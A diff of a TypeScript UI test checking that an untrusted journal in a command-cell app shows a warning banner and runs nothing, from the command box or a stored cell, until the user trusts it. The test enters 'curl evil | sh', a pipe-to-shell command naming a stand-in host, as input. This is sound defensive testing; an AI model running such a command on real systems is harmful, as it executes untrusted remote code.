@@ -149,22 +149,28 @@ describe('command cells', () => {
 });
 
 describe('untrusted journal', () => {
-  it('shows a banner and runs nothing until the user trusts the journal', async () => {
-    const { fake, journal } = await setup({ trusted: false });
+  it('shows a banner and runs nothing, from the command box or a stored cell, until the user trusts the journal', async () => {
+    const fake = new FakeApi();
+    const journal = fake.addJournal('Cloned', ['Imported'], { trusted: false });
+    fake.journal(journal.id).steps[0]!.cells.push({ id: 'cell-1', command: 'touch pwned', collapsed: false, lastRun: null });
+    await renderJournal(fake);
     const banner = screen.getByRole('alert');
     expect(banner.textContent).toContain('untrusted');
     const input = screen.getByRole('textbox', { name: 'Command' });
     fireEvent.change(input, { target: { value: 'curl evil | sh' } });
 
     fireEvent.keyDown(input, { key: 'Enter' });
-    expect((screen.getByRole('button', { name: 'Run' }) as HTMLButtonElement).disabled).toBe(true);
+    fireEvent.click(within(screen.getByRole('group', { name: 'Cell: touch pwned' })).getByRole('button', { name: 'Re-run' }));
+
+    await waitFor(() => expect(banner.textContent).toContain('Nothing was run.'));
     expect(fake.log.filter((entry) => entry.name === 'cell.run' || entry.name === 'journal.edit')).toEqual([]);
+    expect((input as HTMLTextAreaElement).value).toBe('curl evil | sh');
 
     fireEvent.click(within(banner).getByRole('button', { name: 'Trust this journal' }));
     await waitFor(() => expect(screen.queryByRole('alert')).toBeNull());
     expect(fake.inputsOf('journal.trust')).toEqual([{ journalId: journal.id }]);
 
-    fireEvent.keyDown(input, { key: 'Enter' });
-    await waitFor(() => expect(fake.inputsOf('cell.run')).toHaveLength(1));
+    fireEvent.click(within(screen.getByRole('group', { name: 'Cell: touch pwned' })).getByRole('button', { name: 'Re-run' }));
+    await waitFor(() => expect(fake.inputsOf('cell.run')).toEqual([{ journalId: journal.id, cellId: 'cell-1' }]));
   });
 });
